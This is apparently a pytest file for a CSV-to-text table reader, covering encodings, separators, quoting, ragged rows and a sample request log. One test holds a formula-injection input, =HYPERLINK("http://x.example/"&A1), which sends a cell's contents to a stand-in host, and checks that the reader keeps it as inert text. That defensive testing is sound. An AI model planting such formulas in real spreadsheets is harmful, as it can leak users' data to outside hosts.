"""Tables as text."""

from __future__ import annotations

import pytest

from tests.places import SAMPLE
from workbench.reading import tables


def rows(data: bytes) -> list[str]:
    return "".join(tables.read(data, "a.csv", None).pages).split("\n")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|", "^"])
@pytest.mark.parametrize("codec", ["utf-8-sig", "gb18030", "big5", "utf-16"])
def test_each_separator_and_encoding(separator: str, codec: str) -> None:
    table = "\r\n".join(separator.join(row) for row in [("姓名", "人名"), ("大同", "浙江大學"), ("李四", "")])
    assert rows(table.encode(codec)) == ["姓名 | 人名", "大同 | 浙江大學", "李四 |"]


def test_quotes_line_ends_and_commas_within_cells() -> None:
    data = b'name;note\n"Wei An";"one, two\nthree"\n\n"a ""b""";1,5\n'
    assert rows(data) == ["name | note", "Wei An | one, two three", 'a "b" | 1,5']


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ("sep=;\na,b;c\n", ["a,b | c"]),
        ("\ufeffsep=:\r\n张三:5,5\r\n", ["张三 | 5,5"]),
        ("SEP=\t\n张三\t5;5\n", ["张三 | 5;5"]),
        ("sep=~\n张三~5|5\n", ["张三 | 5|5"]),
        ("sep=12;note\n张三;5\n", ["sep=12 | note", "张三 | 5"]),
    ],
)
def test_a_line_that_says_its_separator(table: str, expected: list[str]) -> None:
    assert rows(table.encode()) == expected


def test_rows_of_all_widths_keep_their_cells() -> None:
    assert rows("编号,姓名,金额\n1,张三\n2,李四,50,多出\n,,\n3\n".encode()) == [
        "编号 | 姓名 | 金额", "1 | 张三", "2 | 李四 | 50 | 多出", "3",
    ]  # fmt: skip


def test_a_cell_may_hold_any_line_end_of_unicode() -> None:
    assert rows("a,启明\u2028计划\x85第二\nb,c\n".encode()) == ["a | 启明 计划 第二", "b | c"]


def test_a_quotation_mark_that_is_never_closed_swallows_nothing() -> None:
    table = 'name,note\n"Wei, An",5" pipe\n"启明,申报\n张三,浙江\n"李四",x\n'
    assert rows(table.encode()) == ["name | note", 'Wei, An | 5" pipe', '"启明 | 申报', "张三 | 浙江", '"李四" | x']


def test_times_and_addresses_are_not_cut() -> None:
    assert rows("09:05 会议\n10:30 会议\nhttp://example.cn/a\n".encode()) == [
        "09:05 会议", "10:30 会议", "http://example.cn/a",
    ]  # fmt: skip


def test_formulas_are_text() -> None:
    assert rows(b'name,note\n=HYPERLINK("http://x.example/"&A1),y\n+1+1,-2\n') == [
        "name | note",
        '=HYPERLINK("http://x.example/"&A1) | y',
        "+1+1 | -2",
    ]


def test_a_cell_longer_than_the_library_s_limit() -> None:
    reading = tables.read(b'a,b\n1,"' + b"x" * 150_000 + b'"\n', "a.csv", None)
    assert reading.pages == ("a | b\n1 | " + "x" * 150_000,)


def test_one_column() -> None:
    assert rows("人才\n启明\n".encode()) == ["人才", "启明"]


def test_the_sample_s_log_of_requests() -> None:
    reading = tables.read((SAMPLE / "03_letters" / "no_answer_log.csv").read_bytes(), "no_answer_log.csv", None)
    assert (reading.kind, reading.state, reading.reason) == ("csv", "ok", None)
    assert reading.pages[0].split("\n")[:2] == [
        "request | to | channel | sent | outcome | checked by",
        "R01 | State Council Information Office | email | 2023-08-07 | no answer by 2023-08-16 | desk",
    ]
